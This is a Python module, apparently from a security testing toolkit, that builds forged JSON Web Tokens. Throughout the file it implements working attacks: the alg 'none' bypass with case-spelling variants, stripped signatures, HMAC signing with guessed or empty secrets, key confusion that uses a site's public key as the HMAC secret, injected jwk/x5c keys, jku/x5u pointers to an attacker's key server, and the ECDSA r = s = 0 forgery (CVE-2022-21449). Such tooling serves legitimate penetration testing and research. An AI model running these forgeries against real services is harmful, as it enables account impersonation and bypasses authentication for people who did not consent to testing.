"""A token under an attacker's hands: edited, stripped, confused, and signed anew."""

import hmac
from base64 import b64encode
from collections.abc import Mapping
from enum import Enum
from itertools import product
from typing import Any, Literal, Self

from labkit.cracking.params import HMACS, HmacName
from labkit.errors import InvalidInput
from labkit.forging.key_server import Keys
from labkit.forging.own_key import OwnKey
from labkit.forging.parted import PartedToken
from labkit.forging.public_text import Form, public_text
from labkit.inputs import octets, text

# Every way to write it in capital and small letters: a filter that knows one lets the others by.
NONE_SPELLINGS: tuple[str, ...] = tuple(
    dict.fromkeys(["none", "None", "NONE", "nOnE", *map("".join, product("nN", "oO", "nN", "eE"))])
)
# The sizes of r and s together, and the DER that says r = s = 0.
ECDSA_BYTES = {"ES256": 64, "ES384": 96, "ES512": 132}
ZERO_DER = bytes([0x30, 6, 2, 1, 0, 2, 1, 0])


class Kid(Enum):
    """What a signature makes of the header's `kid` where the caller names none."""

    KEPT = "as the header has it"
    OWN = "the own key's"


class Forgery(PartedToken):
    """A token and what was done to it. Every change returns a new one; threads may share it.

    It takes any text: what cannot be decoded is empty, and can be replaced. It never verifies, and
    a change of header or claims leaves the signature as it was until something signs.

    Args:
        token: The token as it would be sent.
        steps: What was changed so far, oldest first.

    Examples:
        >>> forged = Forgery.of("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln")
        >>> forged = forged.edit_claims(sub="carol").unsigned()
        >>> forged.header, forged.claims, forged.signature
        ({'alg': 'none'}, {'sub': 'carol'}, b'')
        >>> print(forged)
        eyJhbGciOiJub25lIn0.eyJzdWIiOiJjYXJvbCJ9.
    """

    def edit_header(self, /, **changes: Any) -> Self:
        """Change members of the header; None removes one.

        Raises:
            InvalidInput: JSON cannot say a value.
        """
        return self._edited("header", changes)

    def edit_claims(self, /, **changes: Any) -> Self:
        """Change claims; None removes one.

        Raises:
            InvalidInput: JSON cannot say a value.
        """
        return self._edited("payload", changes)

    def raw_header(self, raw: bytes) -> Self:
        """Put these bytes in place of the header, as they are.

        Raises:
            InvalidInput: They are no bytes.
        """
        return self._with("header", octets(raw, "header", at_most=1 << 24), "raw bytes")

    def payload(self, raw: bytes) -> Self:
        """Put these bytes in place of the payload, as they are: members twice, no JSON at all.

        Raises:
            InvalidInput: They are no bytes.
        """
        return self._with("payload", octets(raw, "payload", at_most=1 << 24), "raw bytes")

    def unsigned(self, spelling: str = "none") -> Self:
        """Say that nothing is signed, and leave the signature empty (RFC 7518 §3.6).

        Args:
            spelling: What `alg` becomes; `NONE_SPELLINGS` lists the variants.

        Raises:
            InvalidInput: It is no str.
        """
        alg = text(spelling, "spelling of none")
        return self._edited("header", {"alg": alg}).drop_signature()

    def drop_signature(self) -> Self:
        """Leave the signature empty and the algorithm as it is (a null signature)."""
        return self._with("signature", b"", "signature dropped")

    def sign(self, key: OwnKey, *, kid: str | Kid | None = Kid.KEPT, as_is: bool = False) -> Self:
        """Sign with a key of one's own.

        Args:
            key: The key; `alg` becomes its kind.
            kid: What `kid` becomes; None removes it; the header's own stays unless given.
            as_is: Leave the header as it is, byte for byte.

        Raises:
            InvalidInput: A wrong type.
        """
        OwnKey.checked(key)
        signing = self if as_is else self._saying({"alg": key.kind}, kid)
        return signing._with("signature", key.sign(signing._message), f"signed with own {key.kind}")

    def sign_with_secret(
        self,
        secret: bytes,
        alg: HmacName = "HS256",
        *,
        kid: str | Kid | None = Kid.KEPT,
        as_is: bool = False,
    ) -> Self:
        """Sign with a secret that was guessed, leaked or left empty.

        Args:
            secret: The secret, which may be empty.
            alg: "HS256", "HS384" or "HS512"; `alg` becomes it.
            kid: What `kid` becomes; None removes it; the header's own stays unless given.
            as_is: Leave the header as it is, byte for byte.

        Raises:
            InvalidInput: A wrong type, or another algorithm.
        """
        octets(secret, "secret")
        if not isinstance(alg, str) or alg not in HMACS:
            raise InvalidInput("This signs with HMAC only.", remedy=f"Take {', '.join(HMACS)}.")
        signing = self if as_is else self._saying({"alg": alg}, kid)
        mac = hmac.digest(secret, signing._message, HMACS[alg])
        return signing._with("signature", mac, f"{alg} with {len(secret)} bytes as secret")

    def confuse(
        self, jwk: Mapping[str, Any], form: Form = "pem", *, alg: HmacName = "HS256"
    ) -> Self:
        """Sign with HMAC, and the site's public key as the secret: everybody has that.

        Args:
            jwk: The site's public key, from its key set or recovered from two signatures.
            form: In which form the site keeps it: "pem", "pem without newline", "der", "pkcs1"
                or "jwk".
            alg: Which HMAC.

        Raises:
            InvalidInput: A wrong argument.
            UnusableKey: The key cannot be read, or has no such form.
        """
        return self.sign_with_secret(public_text(jwk, form), alg)

    def embed_key(self, key: OwnKey, *, kid: str | Kid | None = Kid.OWN) -> Self:
        """Put an own public key into the header as `jwk`, and sign with it (RFC 7515 §4.1.3).

        Args:
            key: The key.
            kid: What `kid` becomes: the key's own unless given; None removes it.

        Raises:
            InvalidInput: A wrong type.
        """
        return self._borrowing(key, kid, {"jwk": OwnKey.checked(key).jwk})

    def embed_certificate(self, key: OwnKey, *, kid: str | Kid | None = Kid.OWN) -> Self:
        """Put an own self-signed certificate into the header as `x5c`, and sign with its key.

        The certificate is base64 there, not base64url (RFC 7515 §4.1.6).

        Args:
            key: The key.
            kid: What `kid` becomes: the key's own unless given; None removes it.

        Raises:
            InvalidInput: A wrong type.
        """
        return self._borrowing(
            key, kid, {"x5c": [b64encode(OwnKey.checked(key).certificate).decode()]}
        )

    def point_to(
        self,
        server: Keys,
        member: Literal["jku", "x5u"] = "jku",
        *,
        kid: str | Kid | None = Kid.OWN,
    ) -> Self:
        """Name a key server in the header, and sign with the key that it serves.

        Args:
            server: What `serve_keys` returns.
            member: "jku" for its key set, "x5u" for its certificate (RFC 7515 §4.1.2, §4.1.5).
            kid: What `kid` becomes: the key's own unless given; None removes it.

        Raises:
            InvalidInput: A wrong type or member.
        """
        if member not in ("jku", "x5u"):
            raise InvalidInput("A token points to a key with 'jku' or 'x5u'.")
        if not isinstance(server, Keys):
            raise InvalidInput("A key server is needed.", remedy="Use `with serve_keys(key)`.")
        return self._borrowing(server.key, kid, {member: getattr(server, member)})

    def zero_signature(self, form: Literal["raw", "der"] = "raw") -> Self:
        """Sign with r = s = 0, which some verifiers took for every message's (CVE-2022-21449).

        Args:
            form: "raw" as tokens have it, or "der".

        Raises:
            InvalidInput: Another form.
        """
        if form not in ("raw", "der"):
            raise InvalidInput("A zero signature is 'raw' or 'der'.")
        alg = self.header.get("alg")
        kept = alg if isinstance(alg, str) and alg in ECDSA_BYTES else "ES256"
        zero = bytes(ECDSA_BYTES[kept]) if form == "raw" else ZERO_DER
        return self._saying({"alg": kept}, Kid.KEPT)._with("signature", zero, "r = s = 0")

    def _saying(self, members: dict[str, Any], kid: str | Kid | None) -> Self:
        """The same with a header that says so; untouched where it does already."""
        wanted = members if kid is Kid.KEPT else members | {"kid": kid}
        now = self.header
        if all(now.get(name) == value for name, value in wanted.items()):
            return self._in_three_parts()
        return self._edited("header", wanted)

    def _borrowing(self, key: OwnKey, kid: str | Kid | None, members: dict[str, Any]) -> Self:
        said = members | {"kid": key.kid if kid is Kid.OWN else kid}
        return self._edited("header", said).sign(key)
